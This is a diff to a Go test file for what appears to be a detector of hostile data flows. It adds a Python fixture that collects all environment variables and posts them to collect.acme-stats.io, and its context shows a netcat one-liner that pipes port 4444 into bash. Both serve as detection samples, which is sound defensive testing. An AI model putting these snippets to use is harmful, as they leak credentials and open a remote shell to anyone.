@@ -106,6 +106,15 @@ func TestFlows(t *testing.T) {
 			"",
 		},
 		{
+			"python: classes of two files",
+			"-- reader.py --\nimport os\nclass Reader:\n    def all(self):\n        found = {}\n" +
+				"        for k, v in os.environ.items():\n            found[k] = v\n        return found\n" +
+				"-- main.py --\nimport requests\nfrom reader import Reader\nclass Sender:\n" +
+				"    ADDRESS = 'https://collect.acme-stats.io'\n    def send(self, data):\n" +
+				"        requests.post(self.ADDRESS, json=data)\nSender().send(Reader().all())\n",
+			"exfiltrates: reads-environment -> uploads collect.acme-stats.io",
+		},
+		{
 			"a shell for everyone",
 			"-- a.sh --\nnc -l -p 4444 | bash\n",
 			"runs-received: connects *:4444 -> runs-computed bash",
